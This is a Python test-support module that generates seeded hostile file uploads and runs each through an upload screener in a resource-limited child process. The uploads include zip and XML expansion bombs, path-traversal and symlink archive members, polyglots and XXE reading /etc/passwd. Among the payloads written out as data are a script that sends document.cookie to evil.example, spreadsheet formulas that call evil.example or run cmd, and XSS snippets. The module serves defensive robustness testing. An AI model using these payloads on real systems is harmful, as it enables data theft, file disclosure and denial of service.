"""Uploads that somebody might give to break a site, made up by a seed; and what becomes of each."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import signal
import stat
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import NamedTuple

import numpy as np

Rng = np.random.Generator
GOOD = b"place,count\nA1,2\nA2,3\nB7,1\n"
GEOJSON = (
    b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"a":"b","c":1},'
    b'"geometry":{"type":"Point","coordinates":[1,2]}}]}'
)
SCRIPTS = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>a,b</script></svg>",
    b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>\n1,2\n",
    b"<html><body onload=alert(1)>a,b\n1,2\n",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;,b</a>",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>"
    b"<!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>",
    b"<img src=x onerror=alert(1)>,b\n1,2\n",
)
FORMULAS = (
    "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example?\"&A1)", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")", "%0A=1+1", "=DDE(1)",
)  # fmt: skip
PATHS = (
    "../../../etc/passwd", "/etc/cron.d/x.csv", "..\\..\\site.toml", "C:\\x.csv", "a/../../b.csv",
    "\u202egpj.csv", "con.csv", "x" * 4_000 + ".csv", "a\nb.csv", "a\x01b.csv", ".csv", " .csv ",
    "secret_key", "~/.ssh/authorized_keys.csv", "%2e%2e%2fx.csv", "./a.csv", "a//b.csv",
)  # fmt: skip


class HostileUpload(NamedTuple):
    """A file that somebody gives.

    Parameters
    ----------
    kind : str
    name : str
    data : bytes
    """

    kind: str
    name: str
    data: bytes


def pick(rng: Rng, among):
    """One of several."""
    return among[int(rng.integers(len(among)))]


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these files."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return made.getvalue()


@cache
def workbook() -> bytes:
    """A sound workbook."""
    import openpyxl

    book, made = openpyxl.Workbook(), io.BytesIO()
    for row in (["place", "count"], ["A1", 2], ["A2", 3]):
        book.active.append(row)
    book.save(made)
    return made.getvalue()


@cache
def parquet() -> bytes:
    """A sound Parquet file."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    made = io.BytesIO()
    pq.write_table(pa.table({"place": ["A1", "A2"] * 50, "count": list(range(100))}), made)
    return made.getvalue()


def sound(rng: Rng) -> bytes:
    """A sound file of some kind."""
    return pick(
        rng,
        (GOOD, GEOJSON, gzip.compress(GOOD), zipped(("a.csv", GOOD)), workbook(), parquet()),
    )


def polyglot(rng: Rng) -> bytes:
    """A file that is two things at once."""
    heads = (
        b"%PDF-1.7\n", b"GIF89a,b\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0JFIF", b"MZ",
        b"#!/bin/sh\n", b"\x7fELF", b"PK\x03\x04", b"\x1f\x8b", b"PAR1", b"BM", b"{\\rtf1", b"{",
        *SCRIPTS,
    )  # fmt: skip
    tails = (GOOD, zipped(("a.csv", GOOD)), parquet(), workbook(), pick(rng, SCRIPTS))
    parts = [pick(rng, heads), pick(rng, tails)]
    if rng.random() < 0.3:
        parts.append(pick(rng, SCRIPTS))
    return b"".join(parts)


def flat_bomb(rng: Rng) -> bytes:
    """Little that becomes much: zeros, or lines, in one step."""
    block = pick(rng, (b"\0" * (8 << 20), b"a,b\n" + b"1,1\n" * (2 << 20), b"," * (8 << 20)))
    times = int(rng.integers(10, 60))
    if rng.random() < 0.5:
        return gzip.compress(block, 9) * times  # members, one after another
    return overlapping(block, times * 10)


def overlapping(block: bytes, times: int) -> bytes:
    """A zip whose many names all lead to the same bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(block) + packer.flush()
    about = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, zlib.crc32(block), len(body), len(block))
    local = b"PK\x03\x04" + about + struct.pack("<HH", 5, 0) + b"0.csv" + body
    central = b""
    for n in range(times):
        name = f"{n}.csv".encode()
        central += b"PK\x01\x02" + struct.pack("<H", 20) + about
        central += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    count = min(times, 65_535)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(local), 0)
    return local + central + b"PK\x05\x06" + end


def nested_bomb(rng: Rng) -> bytes:
    """Archives in archives."""
    data = pick(rng, (GOOD, b"a,b\n" + b"0,0\n" * (4 << 20)))
    for depth in range(int(rng.integers(2, 7))):
        wide = int(rng.integers(1, 12)) if depth else 1
        if rng.random() < 0.3:
            data = gzip.compress(data, 6)
        else:
            data = zipped(*((f"{n}.{pick(rng, ('zip', 'csv', 'gz'))}", data) for n in range(wide)))
    return data


def many_members(rng: Rng) -> bytes:
    """A zip of very many files."""
    n = int(rng.integers(2_000, 10_001))
    if rng.random() < 0.5:
        return overlapping(GOOD, n)
    return zipped(*((f"{m}.csv", GOOD) for m in range(n)), method=zipfile.ZIP_STORED)


def bad_members(rng: Rng) -> bytes:
    """A zip whose names or links lead elsewhere."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for _ in range(int(rng.integers(1, 4))):
            info = zipfile.ZipInfo(pick(rng, PATHS))
            how = rng.random()
            if how < 0.3:
                info.create_system = 3
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                archive.writestr(info, b"/etc/passwd")
            elif how < 0.4:
                info.external_attr = (stat.S_IFIFO | 0o777) << 16
                archive.writestr(info, GOOD)
            else:
                archive.writestr(info, pick(rng, (GOOD, pick(rng, SCRIPTS))))
    data = made.getvalue()
    return data.replace(b"a//b.csv", b"a/\0b.csv")


def script(rng: Rng) -> bytes:
    """A page or drawing that would run in a browser."""
    text = pick(rng, SCRIPTS)
    before = pick(rng, (b"", b"\n \t", b"\xef\xbb\xbf", b"a,b\n1,2\n", b"<!-- -->", b"\0"))
    how = pick(rng, ("plain", "utf-16", "utf-32", "utf-7", "gz", "zip"))
    if how in ("utf-16", "utf-32", "utf-7"):
        return (before.replace(b"\xef\xbb\xbf", b"") + text).decode("ascii").encode(how)
    if how == "gz":
        return gzip.compress(before + text)
    return zipped(("a.csv", before + text)) if how == "zip" else before + text


def formulas(rng: Rng) -> bytes:
    """Cells that a spreadsheet would run."""
    rows = [[pick(rng, FORMULAS) for _ in range(3)] for _ in range(int(rng.integers(1, 40)))]
    if rng.random() < 0.3:
        import openpyxl

        book, made = openpyxl.Workbook(), io.BytesIO()
        for row in (["place", "count", "what"], *rows):
            book.active.append([cell.strip("\t\r") for cell in row])
        book.save(made)
        return made.getvalue()
    mark = pick(rng, (",", ";", "\t", "|"))
    quoted = [mark.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows]
    return "\r\n".join([mark.join(("place", "count", "what")), *quoted]).encode()


def bad_encoding(rng: Rng) -> bytes:
    """Text that is none."""
    text = "lugar,categoría,ñandú\nA1,hurto €,2\nA2,daño,3\n" * int(rng.integers(1, 50))
    made = pick(
        rng,
        (
            text.encode("utf-16")[:-1],
            text.encode("utf-16-le"),
            text.encode("utf-32"),
            b"\xff\xfe" + text.encode("utf-8"),
            b"\xef\xbb\xbf" + text.encode("cp1252"),
            text.encode("utf-8") + text.encode("cp1252"),
            text.encode("utf-8").replace(b"\xc3", b"\xc0\xaf"),
            b"a,b\n\xed\xa0\x80,1\n\xf4\x90\x80\x80,2\n",
            text.encode("utf-16").replace(b"A\x001\x00", b"\x00\xd8\x00\xd8"),
            bytes(rng.integers(128, 256, 5_000, dtype=np.uint8)),
            b"a,b\n" + bytes(rng.integers(0, 256, 5_000, dtype=np.uint8)),
            text.encode("cp037", "replace"),
            text.encode("shift_jis", "replace"),
        ),
    )
    return bytes(made)


def broken(rng: Rng) -> bytes:
    """A sound file that is cut, or of which bytes changed."""
    data = bytearray(sound(rng))
    if rng.random() < 0.5:
        return bytes(data[: int(rng.integers(1, len(data)))])
    for _ in range(int(rng.integers(1, 12))):
        at = int(rng.integers(len(data)))
        how = int(rng.integers(4))
        if how == 0:
            data[at] = int(rng.integers(256))
        elif how == 1:
            data[at:at] = bytes(rng.integers(0, 256, 5, dtype=np.uint8))
        elif how == 2:
            del data[at : at + int(rng.integers(1, 9))]
        else:
            data += data[at:] * int(rng.integers(1, 4))
        data = data or bytearray(b",")
    return bytes(data)


def wide(rng: Rng) -> bytes:
    """A header that is very long, or of very many columns."""
    how = int(rng.integers(5))
    if how == 0:
        return b"a," + b"x" * int(rng.integers(1 << 20, 12 << 20)) + b"\n1,2\n"
    n = int(rng.integers(2_000, 40_000))
    if how == 1:
        return b",".join(b"c%d" % m for m in range(n)) + b"\n" + b",".join([b"1"] * n) + b"\n"
    if how == 2:
        return b"," * n + b"\n" + b"," * n + b"\n"
    if how == 3:
        return b",".join([b"same"] * n) + b"\n" + b",".join([b"1"] * n) + b"\n"
    return b"a,b\n" + b",".join([b"1"] * n) + b"\n"


def odd_text(rng: Rng) -> bytes:
    """NULs, control characters, quotes that never end, lines that never do."""
    return pick(
        rng,
        (
            b"a,b\n1,\0\n" * int(rng.integers(1, 900)),
            b"\0" * int(rng.integers(1, 1 << 20)),
            b'a,b\n"1,2\n' + b"1,2\n" * int(rng.integers(1, 300_000)),
            b"a,b\r1,2\r" * int(rng.integers(1, 1_000)),
            b"a,b\n" + b"x" * int(rng.integers(1 << 20, 24 << 20)),
            b"a,b\n" + b'"' * int(rng.integers(1, 1 << 20)),
            b'"a""b",c\n""""""","\n' * int(rng.integers(1, 1_000)),
            b"\n" * int(rng.integers(1, 1 << 20)),
            b"a,b\n" + b"\x1b]0;x\x07\x1b[2J,1\n" * int(rng.integers(1, 100)),
            "a,b\n\u202e1\u2066,2\u2028\n".encode() * int(rng.integers(1, 100)),
            b"a,b\n" + b"9" * int(rng.integers(400, 1 << 20)) + b",1e999\n",
            b"a,b\n1,2\n" + b"1,2,3\n" * int(rng.integers(1, 9)),
            b"",
            b" ",
            b",",
            b"sep=;\na;b\n1;2\n",
        ),
    )


def deep(rng: Rng) -> bytes:
    """JSON that is deep, endless, or of numbers that are none."""
    n = int(rng.integers(500, 400_000))
    opening = b'{"type":"FeatureCollection","features":'
    return pick(
        rng,
        (
            opening + b"[" * n,
            opening + b"[" * n + b"]" * n + b"}",
            opening + b'[{"type":"Feature","properties":' + b'{"a":' * n + b"1" + b"}" * n,
            b'{"a":' * n + b"1" + b"}" * n,
            opening + b'[{"type":"Feature","properties":{"a":' + b"9" * n + b'},"geometry":null}]}',
            opening + b'[{"type":"Feature","properties":{"a":NaN,"b":Infinity},"geometry":1}]}',
            opening + b'["' + b"x" * n,
            GEOJSON.replace(b"[1,2]", b"[1e999,-1e999]"),
            GEOJSON.replace(b"[1,2]", b"[" * min(n, 5_000) + b"]" * min(n, 5_000)),
            GEOJSON.replace(b'"a":"b"', b",".join(b'"k%d":1' % m for m in range(min(n, 30_000)))),
            GEOJSON.replace(b'"a":"b"', b'"a":"b","a":"\\ud800"'),
            GEOJSON.replace(b"Point", b"Nowhere"),
            b"[" + GEOJSON + b"]" * 3,
            GEOJSON + GEOJSON,
        ),
    )


def hostile_parquet(rng: Rng) -> bytes:
    """Parquet that claims more than there is, or of which little becomes much."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    how = int(rng.integers(6))
    if how == 0:
        data = bytearray(parquet())
        data[-8:-4] = struct.pack("<I", pick(rng, (0, 1, 0x7FFFFFFF, 0xFFFFFFFF, len(data))))
        return bytes(data)
    if how == 1:
        return (
            b"PAR1"
            + bytes(rng.integers(0, 256, int(rng.integers(1, 500)), dtype=np.uint8))
            + (struct.pack("<I", int(rng.integers(1, 400))) + b"PAR1")
        )
    made = io.BytesIO()
    if how == 2:  # one long value, in every row
        rows = int(rng.integers(1_000, 30_000))
        long = pa.array(["x" * int(rng.integers(1 << 16, 1 << 20))])
        column = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int32), long)
        pq.write_table(pa.table({"a": column, "b": np.zeros(rows)}), made, compression="zstd")
    elif how == 3:
        rows = int(rng.integers(1 << 20, 4 << 20))
        same = {"a": np.zeros(rows, np.int64), "b": np.zeros(rows, np.int64)}
        pq.write_table(pa.table(same), made, compression="zstd")
    elif how == 4:
        value: object = "x"
        for _ in range(int(rng.integers(2, 60))):
            value = [value] if rng.random() < 0.5 else {"a": value}
        pq.write_table(pa.table({"a": [value], "b": [1]}), made)
    else:
        n = int(rng.integers(1_000, 5_000))
        pq.write_table(pa.table({f"c{m}": [1] for m in range(n)}), made)
    return made.getvalue()


def hostile_workbook(rng: Rng) -> bytes:
    """A workbook that claims to be larger than it is, expands, or leads elsewhere."""
    archive = zipfile.ZipFile(io.BytesIO(workbook()))
    parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    how = int(rng.integers(7))
    if how == 0:  # two cells, in opposite corners
        far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        parts[sheet] = parts[sheet].replace(b"</sheetData>", far)
    elif how == 1:
        parts[sheet] = parts[sheet].replace(b"A1:B3", b"A1:XFD1048576")
    elif how == 2:
        laughs = b"<!DOCTYPE a [<!ENTITY a 'aaaaaaaa'>" + b"".join(
            b"<!ENTITY %c '%s'>" % (n, b"&%c;" % (n - 1) * 9) for n in range(98, 110)
        )
        parts[sheet] = parts[sheet].replace(b"<worksheet", laughs + b"]><worksheet", 1)
        parts[sheet] = parts[sheet].replace(b"<v>2</v>", b"<v>&m;</v>")
    elif how == 3:
        parts[sheet] = parts[sheet].replace(
            b"<v>2</v>", b"<v>" + b"9" * int(rng.integers(1 << 16, 1 << 22)) + b"</v>"
        )
    elif how == 4:
        del parts[pick(rng, sorted(parts))]
    elif how == 5:
        parts[sheet] = parts[sheet] + b"<" * int(rng.integers(1, 1 << 20))
    else:
        parts["../../evil.csv"] = GOOD
    return zipped(*parts.items())


def hostile_name(rng: Rng) -> bytes:
    """A sound file; what is hostile is its name."""
    return GOOD


MAKERS: dict[str, Callable[[Rng], bytes]] = {
    one.__name__: one
    for one in (
        polyglot, flat_bomb, nested_bomb, many_members, bad_members, script, formulas, bad_encoding,
        broken, wide, odd_text, deep, hostile_parquet, hostile_workbook, hostile_name,
    )
}  # fmt: skip


def uploads(seed: int, n: int) -> Iterator[HostileUpload]:
    """Make uploads, of each kind alike; the same seed makes the same."""
    names = list(MAKERS)
    for at in range(n):
        rng = np.random.default_rng([seed, at])
        kind = names[at % len(names)]
        name = pick(rng, PATHS) if rng.random() < 0.5 else f"datos{at}.csv"
        yield HostileUpload(kind, name, MAKERS[kind](rng))


class End(NamedTuple):
    """What became of an upload.

    Parameters
    ----------
    how : str
        "kept", the class of the refusal, or what broke.
    seconds : float
        Of processor.
    memory : int
        Bytes that its process held at most.
    left : list of str
        Files that it left.
    """

    how: str
    seconds: float
    memory: int
    left: list[str]

    @property
    def sound(self) -> bool:
        """Whether it was kept, or refused by an error of veedor's own."""
        return self.how in ("kept", "UnreadableError", "PersonalDataRefusal", "StudyError")


def end_of(data: bytes, patience_s: int = 60) -> End:
    """Look at an upload as a site does, in a process of its own, within the bounds of a job."""
    place = Path(tempfile.mkdtemp(prefix="hostile-"))
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writing, _looked_at(place, data, patience_s).encode())
        finally:
            os._exit(0)
    os.close(writing)
    _, status, used = os.wait4(child, 0)
    seconds = used.ru_utime + used.ru_stime
    told = os.read(reading, 1_000).decode()
    os.close(reading)
    if os.WIFSIGNALED(status):
        told = f"killed by {signal.Signals(os.WTERMSIG(status)).name}"
    left = [str(one.relative_to(place)) for one in place.rglob("*") if one.name != "upload"]
    shutil.rmtree(place)
    return End(told or "ended", seconds, used.ru_maxrss << 10, left)


def _looked_at(place: Path, data: bytes, patience_s: int) -> str:
    from veedor.errors import VeedorError
    from veedor.tables.screening import screen_file
    from veedor.web.work.bounds import Bounds, enclose

    signal.alarm(patience_s)
    os.environ["TMPDIR"] = tempfile.tempdir = str(place)
    enclose(
        Bounds(
            memory=500 << 20, processor_s=patience_s, clock_s=patience_s, bytes=1 << 34, files=99
        )
    )
    (place / "upload").write_bytes(data)
    try:
        screen_file(place / "upload", lambda rows: None)
    except VeedorError as error:
        json.dumps([str(error), str(error.found)])
        return type(error).__name__
    except BaseException as error:  # noqa: BLE001 - whatever it is, it is what broke
        return f"broke: {type(error).__name__}: {error}"[:900]
    return "kept"
